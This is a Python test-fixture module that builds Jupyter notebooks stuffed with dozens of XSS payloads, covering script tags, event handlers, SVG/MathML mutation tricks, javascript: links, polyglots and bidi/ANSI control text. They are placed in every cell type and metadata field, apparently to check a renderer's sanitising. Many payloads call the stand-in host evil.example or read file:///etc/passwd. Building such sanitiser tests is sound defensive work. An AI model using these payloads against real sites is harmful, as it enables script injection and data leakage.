"""Notebooks that try to run code, to load something, or to change the page around them.

Every payload sets `hit` in the window, or makes a request to evil.example, if it gets through.
"""

from __future__ import annotations

JS = "window.hit=1"
PAYLOADS = {
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "script": f"<script>{JS}</script>",
    "script-file": '<script src="../x.js"></script><script src="data:text/javascript,hit=1">',
    "script-spelling": f"<ScRiPt\n/x>{JS}</sCrIpT ><scr<script>ipt>{JS}</scr</script>ipt>",
    "style": "<style>.notice, footer { display: none } body { background: url(//evil.example) }",
    "style-import": "<style>@import 'http://evil.example/a.css';</style>",
    "stylesheet": '<link rel="stylesheet" href="http://evil.example/a.css"><link rel=prefetch '
    "href=//evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "base": '<base href="http://evil.example/" target=_blank>',
    "form": '<form action="http://evil.example"><button formaction=javascript:hit=1>go</button>'
    "<input name=q><select name=r><option>1</select></form>",
    "autofocus": f'<input autofocus onfocus="{JS}"><textarea autofocus onfocus={JS}>',
    "image-error": f'<img src=x onerror="{JS}"><img/src="x"/onerror={JS}>',
    "image-load": f'<body onload={JS}><img src="data:image/png;base64,AAAA" onload={JS}>',
    "image-network": '<img src="http://evil.example/x.png" alt="drawn elsewhere">'
    '<img src="//evil.example/y.png"><img src="\\\\evil.example\\z.png">',
    "image-set": '<img srcset="http://evil.example/1x 1x" sizes=1px><picture><source '
    'srcset="http://evil.example/2"></picture>',
    "image-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdD0xIi8+">'
    f"<img src=\"data:image/svg+xml,<svg onload='{JS}'/>\">",
    "image-file": '<img src="file:///etc/passwd"><img src="../../x.png"><img lowsrc=x dynsrc=y>',
    "svg": f"<svg onload={JS}><script>{JS}</script><image href=http://evil.example/i /></svg>",
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:hit=1" /><text x=20 '
    'y=20>XSS</text></a><set attributeName=onmouseover to="hit=1"></svg>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x><script>hit=1</script></svg>#x"/>',
    "svg-foreign": f"<svg><foreignObject><iframe srcdoc='<script>parent.{JS}</script>'></iframe>"
    "</foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={JS}&gt;'>",
    "math-link": '<math href="javascript:hit=1">X</math><math><maction actiontype="statusline" '
    'xlink:href="javascript:hit=1">X</maction></math>',
    "mutation-p": '<svg></p><style><a id="</style><img src=1 onerror=hit=1>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=hit=1>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=hit=1>"></noscript>',
    "mutation-template": "<template><s><template><s><img src=x onerror=hit=1>@shafigullin</s>"
    "</template></s></template>",
    "mutation-list": "<li><div><marquee><li>x</li></marquee></div></li></div></section></main>",
    "mutation-scope": "<ul><li><div><object><li><div><applet><li>x</applet></object></ul></div>"
    "</div></div></div></div>",
    "javascript-link": '<a href="javascript:hit=1">a</a><a href=" &#1;java&Tab;script:hit=1">b</a>'
    '<a href="JaVaScRiPt&colon;hit=1">c</a><a href="vbscript:x">d</a>',
    "data-link": '<a href="data:text/html,<script>opener.hit=1</script>">a</a>'
    '<a href="blob:x">b</a><a href="filesystem:x">c</a><a href="file:///etc/passwd">d</a>',
    "odd-links": '<a href="//evil.example">a</a><a href="\\\\evil.example\\share">b</a>'
    '<a href="/\\evil.example">c</a><a href="https:evil.example">d</a><a href="http:/x">e</a>',
    "markdown-links": "[a](javascript:hit=1) [b](<java\nscript:hit=1>) ![c](http://evil.example/c) "
    "![d](data:image/svg+xml;base64,AAAA) [e]: javascript:hit=1\n\n[e] <javascript:hit=1>",
    "new-window": '<a href="https://evil.example/" target="_blank" rel="opener" '
    'ping="//evil.example" download referrerpolicy="unsafe-url">out</a>',
    "frames": '<iframe src="javascript:parent.hit=1"></iframe><iframe srcdoc="<script>parent.hit=1'
    '</script>"></iframe><frameset onload=hit=1><frame src=//evil.example></frameset>',
    "objects": '<object data="data:text/html,<script>hit=1</script>"></object><embed src="x.swf">'
    '<applet code=x></applet><portal src="//evil.example"></portal>',
    "media": '<video poster="http://evil.example/p" src="//evil.example/v" autoplay onplay=hit=1>'
    '<source onerror=hit=1></video><audio src=x onerror="hit=1"><track src=//evil.example/t>',
    "comments": "<!-- --!><script>hit=1</script> --><!--><img src=x onerror=hit=1>--><!-- end",
    "conditional": "<!--[if gte IE 4]><script>hit=1</script><![endif]--><?php hit ?><!DOCTYPE x>",
    "cdata": "<![CDATA[<script>hit=1</script>]]><svg><![CDATA[><img src=x onerror=hit=1>]]>",
    "plaintext": "<plaintext>everything after this <script>hit=1</script>",
    "raw-text": "<xmp><script>hit=1</script></xmp><noembed><img src=x onerror=hit=1></noembed>"
    "<title><img src=x onerror=hit=1></title><textarea><img src=x onerror=hit=1>",
    "unclosed": "<details><summary>open<table><tr><td><ul><li><pre><b><a href=x.html>",
    "unclosed-quote": '<a title="swallows the rest><p>',
    "closing": "</p></div></section></section></section></main></body></html></details></table>",
    "toggle": f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "events": "<p onclick=hit=1 onpointerrawupdate=hit=1 onanimationstart=hit=1 "
    "onscrollend=hit=1 oncontentvisibilityautostatechange=hit=1>x</p><marquee onstart=hit=1>y",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=hit=1>y</div>"
    "<dialog open style=position:fixed;inset:0>covers</dialog>",
    "names": '<p id="main">a</p><p id="data">b</p><a name="getElementById">c</a><img '
    'name="body" id="notebooks"><p id=query>d</p><a id="s-0123456789ab">e</a>',
    "classes": '<p class="notice">A warrant is a verdict.</p><p class="skip go">x</p><nav>y</nav>'
    "<header class=top>z</header><footer>w</footer><main>v</main><section class=notebook>u",
    "roles": '<p role="banner" aria-hidden="true" aria-label="x" tabindex="1" hidden inert '
    'contenteditable accesskey="x" slot=y is=z part=p itemscope>x</p>',
    "cover": '<div style="position:fixed;inset:0;z-index:99999;background:#fff;opacity:1">x</div>'
    '<p style="margin-top:-9999px;transform:scale(99);position:absolute !important">y</p>',
    "huge": '<img src="data:image/png;base64,AAAA" width="99999999" height=9999 hspace=9999>'
    '<table width=99999 height=99999><td style="height:99999px;font-size:9999px" rowspan=99999>x',
    "style-url": '<p style="background:url(http://evil.example/a);list-style-image:url(//b);'
    'behavior:url(x);-moz-binding:url(x);width:expression(hit=1)">x</p>',
    "style-escape": '<p style="white-space:nowrap;\\70osition:fixed;color:&quot;}</style><script>'
    'hit=1</script>">x</p><p style=\'white-space:nowrap" onclick="hit=1\'>y</p>',
    "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hit=1 )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit=1//>\\x3e",
    "polyglot-quotes": '\'">><marquee><img src=x onerror=hit=1></marquee>"></plaintext\\></|\\>'
    "<plaintext/onmouseover=hit=1><script>hit=1</script>@gmail.com<isindex formaction=javascript:"
    "hit=1 type=image>'--></script>",
    "entities": "&lt;script&gt;hit=1&lt;/script&gt; &#60;img src=x onerror=hit=1&#62; "
    "&amp;lt;b&gt;",
    "charset": "+ADw-script+AD4-hit=1+ADw-/script+AD4- \x1b(J<script>hit=1</script>\x1b(B",
    "null": "<scr\x00ipt>hit=1</scr\x00ipt><img src=x o\x00nerror=hit=1>"
    "<a href='java\x00script:x'>",
    "tables": "<table><script>hit=1</script><tr><img src=x onerror=hit=1><td></div></section>"
    "<table background=//evil.example/b><caption><form><td>x</table>",
    "mermaid": "```mermaid\ngraph TD; A-->B<img src=x onerror=hit=1>\n```",
    "widgets": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "x"}</script>'
    '<div class="jupyter-widgets" data-x=1>w</div>',
    "editing": '<div contenteditable oninput=hit=1 data-turbo="x">x</div>'
    "<ins cite=//evil.example>y",
    "bidi": "outcome \u202eton\u202c of guilt \u2067x\u2069 \u200f\u061c&#x202e;&rlm;"
    '<bdo dir="rtl">desrever</bdo><p dir=rtl>1 < 2</p><img alt="\u202e" title="&#8238;">',
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;javascript:hit=1\x07link\x1b]8;;\x07 \x1b[2J\x9b1m \b\r",
    "surrogate": "half \ud800 and \udfff",
}


def places(payload: str) -> dict[str, list[dict]]:
    """Cells that contain `payload`, by its place in them."""
    table = f"<table><tr><td>a</td><td>{payload}</td></tr></table>"
    pixel = {"image/png": "iVBORw0KGgo="}
    return {
        "title": [_markdown(f"# {payload}")],
        "markdown": [_markdown(f"before {payload} after")],
        "markdown block": [_markdown(f"before\n\n{payload}\n\nafter")],
        "markdown code": [_markdown(f"`{payload}`\n\n```python\n{payload}\n```\n\n    {payload}")],
        "markdown table": [_markdown("| a | b |\n|--:|:-:|\n| x | " + payload + " |")],
        "markdown parts": [_markdown(f"- [x] {payload}\n\n> {payload}\n\n$${payload}$$")],
        "code": [_code(payload)],
        "html": [_output({"text/html": payload, "text/plain": payload})],
        "html alone": [_output({"text/html": payload})],
        "html isolated": [_output({"text/html": payload}, {"text/html": {"isolated": True}})],
        "html table": [_output({"text/html": table, "text/plain": payload})],
        "svg": [_output({"image/svg+xml": f"<svg>{payload}</svg>", "text/plain": "svg"})],
        "markdown output": [_output({"text/markdown": payload})],
        "latex": [_output({"text/latex": f"$$\\href{{{payload}}}{{x}}$$"})],
        "plain": [_output({"text/plain": payload})],
        "javascript": [_output({"application/javascript": payload})],
        "pdf": [_output({"application/pdf": payload, "text/plain": "pdf"})],
        "mermaid": [_output({"text/vnd.mermaid": payload})],
        "widget": [_output({"application/vnd.jupyter.widget-view+json": {"model_id": payload}})],
        "unknown kind": [
            _output({f"x/{payload}": payload, "application/vnd.x+json": {payload: 1}})
        ],
        "picture": [_output({"image/png": payload, "image/jpeg": payload})],
        "picture text": [_output(pixel, {"image/png": {"alt": payload, "width": payload}})],
        "stream": [_stream(payload, "stdout"), _stream(payload, "stderr")],
        "error": [_error(payload)],
        "raw": [_raw(payload, {}), _raw(payload, {"raw_mimetype": "text/html"})],
        "attachment": [
            _attached(f"![{payload}](attachment:a.png)", {"a.png": {payload: payload}}),
            _attached(f"![x](attachment:{payload})", {payload: {"image/svg+xml": payload}}),
            _attached("![x](attachment:a)", {"a": {"text/html": payload, "image/png": payload}}),
            _attached("![missing](attachment:none)", {}),
        ],
        "tags": [_markdown("x", {"tags": [payload.replace(",", "")], "title": payload})],
    }


def notebook(payload: str, cells: list[dict] | None = None) -> dict:
    """A notebook with `cells`, or with `payload` in every place, and in its metadata."""
    if cells is None:
        cells = [cell for some in places(payload).values() for cell in some]
    metadata = {
        "title": payload,
        "authors": [{"name": payload}],
        "kernelspec": {"name": payload, "display_name": payload, "language": payload},
        "language_info": {"name": payload, "pygments_lexer": payload, "mimetype": payload},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {payload: payload}}},
    }
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": cells}


def _markdown(source: str, metadata: dict | None = None) -> dict:
    return {"cell_type": "markdown", "source": source, "metadata": metadata or {}}


def _attached(source: str, attachments: dict) -> dict:
    return {**_markdown(source), "attachments": attachments}


def _raw(source: str, metadata: dict) -> dict:
    return {"cell_type": "raw", "source": source, "metadata": metadata}


def _code(source: str, *outputs: dict) -> dict:
    cell = {"cell_type": "code", "source": source, "execution_count": 1, "metadata": {}}
    return {**cell, "outputs": list(outputs)}


def _output(data: dict, metadata: dict | None = None) -> dict:
    output = {"data": data, "metadata": metadata or {}}
    return _code(
        "1",
        {"output_type": "display_data", **output},
        {"output_type": "execute_result", "execution_count": 1, **output},
    )


def _stream(text: str, name: str) -> dict:
    return _code("2", {"output_type": "stream", "name": name, "text": text})


def _error(text: str) -> dict:
    error = {"output_type": "error", "ename": text, "evalue": text}
    colored = f"\x1b[31m{text}\x1b[0m"
    return _code("3", {**error, "traceback": [text, colored]}, {**error, "traceback": []})
